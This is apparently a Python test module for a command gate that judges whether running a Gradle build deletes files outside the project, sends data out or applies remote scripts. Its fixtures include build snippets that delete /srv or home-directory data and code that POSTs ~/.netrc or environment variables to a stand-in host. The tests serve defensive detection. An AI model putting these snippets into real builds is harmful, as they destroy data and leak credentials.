"""What a Gradle build deletes or overwrites outside of the project is known for the tasks that run."""

# ruff: noqa: E501 - texts of files
from __future__ import annotations

from tests.gate.disk.test_follow import judged
from tests.gate.example_project import PLACE, ROOT, RULES, Machine
from tests.tables import for_each

from operators_edge.gate.decide import assess
from operators_edge.gate.disk.gradle_tasks import gradle
from operators_edge.gate.disk.recipe_types import Wanted
from operators_edge.model import Call

HOME = 'val data = File(System.getProperty("user.home"), "data")\n'


def runs(text: str, *targets: str) -> list[str]:
    return [one.text for one in gradle(text, Wanted(targets))]


def wipe(body: str) -> str:
    return f'tasks.register<Delete>("wipe") {{\n    {body}\n}}\n'


ELSEWHERE = [
    (HOME + wipe("delete(data)"), "rm -rf ~/data"),
    (wipe('delete(fileTree("/var/lib/shop") { include("**/*.db") })'), "rm -rf /var/lib/shop"),
    (wipe('delete("build", "/srv/shop")'), "rm -rf /srv/shop"),
    (wipe('delete(layout.projectDirectory.dir("../other"))'), "rm -rf ./../other"),
    ('val root = "/srv"\n' + wipe('delete("$root/shop")'), "rm -rf /srv/shop"),
    ('val root = "/srv"\nval data = "${root}/shop"\n' + wipe("doLast { project.delete(data) }"), "rm -rf /srv/shop"),
    ("def data = new File(System.getenv('HOME'), 'data')\ntask wipe(type: Delete) {\n  delete data\n}\n", "rm -rf ~/data"),
    ("task wipe {\n  doLast {\n    new File('/srv/shop').deleteDir()\n  }\n}\n", "rm -rf /srv/shop"),
    ("tasks.register('wipe', Delete) { delete '/srv/shop' }\n", "rm -rf /srv/shop"),
    ('val wipe by tasks.registering(Delete::class) {\n  delete("/srv/shop")\n}\n', "rm -rf /srv/shop"),
    ('tasks.register("wipe") { dependsOn("purge") }\ntasks.register<Delete>("purge") { delete("/srv/shop") }\n', "rm -rf /srv/shop"),
    ('val data = file("build")\nvar data = file("/srv/shop")\n' + wipe("delete(data)"), "rm -rf /srv/shop"),
    ('tasks.register<Sync>("wipe") {\n  from("site")\n  into("/srv/www")\n}\n', "rsync -a --delete x/ /srv/www/"),
    ("task wipe(type: Copy) {\n  from 'site'\n  into '/srv/www'\n}\n", "cp -r x /srv/www/"),
    ('delete("/srv/shop")\n', "rm -rf /srv/shop"),
    ("task wipe {\n  doLast {\n    project.copy { from 'x'; into '/srv/www' }\n  }\n}\n", "cp -r x /srv/www/"),
]  # fmt: skip
INSIDE = [
    'distributions { main { contents { into("/opt/shop") } } }\n',
    'tasks.register<Tar>("wipe") {\n  into("/opt/shop")\n}\n',
    'tasks.register<Copy>("wipe") {\n  from("site") { into("/css") }\n  into("www")\n}\n',
    'val data = layout.buildDirectory.dir("x").get().asFile\n' + wipe("delete(data)"),
    wipe('delete(fileTree(layout.buildDirectory.dir("tmp")) { include("**/*.db") })'),
    wipe("delete(rootProject.layout.buildDirectory)"),
    wipe('delete("$buildDir/x", "out", temporaryDir)').replace(", temporaryDir", ""),
    "task wipe(type: Delete) {\n  delete 'out', \"$buildDir/x\"\n}\n",
    'tasks.register<Sync>("wipe") {\n  from("site")\n  into(layout.buildDirectory.dir("www"))\n}\n',
    wipe('// delete("/srv/shop")'),
    'tasks.register<Delete>("other") { delete("/srv/shop") }\n' + wipe('delete("out")'),
]


@for_each(("text", "command"), ELSEWHERE)
def test_a_task_that_deletes_or_writes_elsewhere_says_where(text: str, command: str) -> None:
    assert command in runs(text, "wipe")
    assert command in runs(text, ":app:wipe")


@for_each("text", INSIDE)
def test_a_task_that_stays_in_the_project_does_nothing_elsewhere(text: str) -> None:
    assert runs(text, "wipe") == []


def test_a_task_runs_by_a_short_name_by_default_and_with_the_build() -> None:
    text = 'tasks.register<Delete>("purgeData") { delete("/srv/shop") }\n'
    assert runs(text, "pD") == runs(text, "purge") == runs(text, "purgeData") != []
    assert runs(f'{text}defaultTasks("purgeData")\n') != []
    assert runs(f'{text}tasks.build {{ finalizedBy("purgeData") }}\n', "build") != []
    assert runs(f"{text}tasks.test.dependsOn('purgeData')\n".replace("tasks.test", "test"), "check") != []  # fmt: skip
    assert runs(text, "build") == runs(text) == runs(text, "p2") == []


@for_each(
    ("file", "text", "effect"),
    [
        ("build.gradle.kts", HOME + wipe("delete(data)"), "junction"),
        ("build.gradle", "task wipe(type: Delete) {\n  delete '/srv/shop'\n}\n", "junction"),
        ("build.gradle.kts", wipe('delete(layout.buildDirectory.dir("x"))'), "allow"),
    ],
)
def test_a_run_of_such_a_task_is_judged(file: str, text: str, effect: str) -> None:
    path = f"{ROOT}/{file}"
    machine = Machine({path: text}, committed=(path,))
    call = Call("Bash", {"command": "./gradlew --offline wipe"}, ROOT)
    assert assess(call, PLACE, machine, RULES.with_profile("contextual")).effect == effect


# end of module


SENDS = (
    'HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://t.example.com/i"))\n'
    '  .POST(BodyPublishers.ofString(File(home, ".netrc").readText())).build(), handler)\n'
)
SENDS_GROOVY = (
    "def c = new URL('https://t.example.com/i').openConnection()\nc.requestMethod = 'POST'\n"
    "c.outputStream << System.getenv()\n"
)
SETTINGS = "rootProject.name = 'x'\n"
TIDY = "task tidy(type: Delete) { delete '/srv/photos' }\n"
APPLIED = {
    "settings that send something": ("gradle build", {"settings.gradle.kts": SENDS}, "junction"),
    "a script that settings apply": (
        "./gradlew build",
        {
            "settings.gradle.kts": 'apply(from = "gradle/a.gradle.kts")\n',
            "gradle/a.gradle.kts": SENDS,
        },
        "junction",
    ),
    "a script by the folder of the project": (
        "gradle help",
        {
            "build.gradle": 'apply from: "$rootDir/gradle/a.gradle"\n',
            "gradle/a.gradle": SENDS_GROOVY,
        },
        "junction",
    ),
    "a script that a script applies": (
        "gradle build",
        {
            "build.gradle": "apply from: rootProject.file('gradle/a.gradle')\n",
            "gradle/a.gradle": "apply { from('b.gradle') }\n",
            "gradle/b.gradle": "build.finalizedBy 'publish'\n",
        },
        "junction",
    ),
    "a script of another machine": (
        "gradle build",
        {"build.gradle": "apply from: 'https://raw.example.com/x/y/z.gradle'\n"},
        "junction",
    ),
    "a plugin of the project": (
        "gradle build",
        {"buildSrc/src/main/groovy/acme.conv.gradle": SENDS_GROOVY},
        "junction",
    ),
    "a plugin of an included build": (
        "gradle build",
        {"build-logic/src/main/kotlin/acme.conv.gradle.kts": SENDS},
        "junction",
    ),
    "a task of a script": (
        "gradle tidy",
        {"build.gradle": "apply from: 'gradle/a.gradle'\n", "gradle/a.gradle": TIDY},
        "junction",
    ),
    "a task that is not run": (
        "gradle build",
        {"build.gradle": "apply from: 'gradle/a.gradle'\n", "gradle/a.gradle": TIDY},
        "allow",
    ),
    "a task that is not run and sends": (
        "gradle build",
        {
            "build.gradle": "apply from: 'gradle/a.gradle'\n",
            "gradle/a.gradle": f"task upload {{\n{SENDS_GROOVY}}}\n",
        },
        "allow",
    ),
    "a script of another machine in a block": (
        "gradle build",
        {"build.gradle": "apply {\n    from 'https://build.shop.example/a.gradle'\n}\n"},
        "junction",
    ),
    "a script of another machine by its address": (
        "gradle build",
        {"build.gradle": "apply from: new URL('https://build.shop.example/a.gradle')\n"},
        "junction",
    ),
    "a script that nothing applies": (
        "gradle build",
        {"build.gradle": "// apply from: 'gradle/a.gradle'\n", "gradle/a.gradle": SENDS_GROOVY},
        "allow",
    ),
    "a script that writes in the project": (
        "gradle build",
        {
            "settings.gradle": "apply from: 'gradle/a.gradle'\n",
            "gradle/a.gradle": "new File(rootDir, 'build/info').text = System.getenv('CI')\n",
        },
        "allow",
    ),
}


@for_each(("command", "files", "effect"), APPLIED.values(), ids=list(APPLIED))
def test_scripts_that_a_build_applies_count(command, files, effect):
    files = {"settings.gradle": SETTINGS, "build.gradle": "plugins { id 'java' }\n", **files}
    assert judged(command, files, committed=files).effect == effect


def test_a_call_that_is_given_a_block_is_no_command():
    block = "obfuscation {\n    hostname { null }\n}\n"
    assert (
        judged("gradle test", {"settings.gradle.kts": block, "build.gradle.kts": ""}).effect
        == "allow"
    )
    sent = "hostname {\n    git push --force\n}\n"
    assert judged("gradle test", {"settings.gradle.kts": sent}).effect == "junction"


SHIP = (
    "plugins { id 'java' }\ntasks.register('ship', Exec) {\n"
    "  commandLine 'kubectl', '--context', findProperty('ctx') ?: 'none', 'apply', '-f', 'k8s'\n}\n"
)


@for_each("command", ["gradle build", "gradle test --info", "gradle :app:check"])
def test_a_task_that_nothing_names_is_left_out(command):
    files = {"build.gradle": SHIP, "settings.gradle": "rootProject.name = 'shop'\n"}
    assert judged(command, files, committed=tuple(files)).effect == "allow"


@for_each(
    ("command", "more", "others"),
    [
        ("gradle ship", "", {}),
        ("gradle sh", "", {}),
        ("gradle", "defaultTasks 'ship'\n", {}),
        ("gradle build", "build.dependsOn 'ship'\n", {}),
        ("gradle build", "build.doLast { tasks.ship.exec() }\n", {}),
        ("gradle build", "", {"app/build.gradle": "build.dependsOn(':ship')\n"}),
        ("gradle build", "", {"app/lib/build.gradle.kts": 'tasks.build { dependsOn(":ship") }\n'}),
        (
            "gradle build",
            "",
            {"settings.gradle": "gradle.rootProject { build.finalizedBy 'ship' }\n"},
        ),
        ("gradle build", "tasks.withType(Exec) { build.dependsOn it }\n", {}),
        ("gradle build", "tasks.matching { it.group == null }.all { build.dependsOn it }\n", {}),
    ],
)
def test_a_task_that_something_may_name_is_judged(command, more, others):
    files = {"build.gradle": SHIP + more, **others}
    assert judged(command, files, committed=tuple(files)).rule == "deploy-kubernetes"
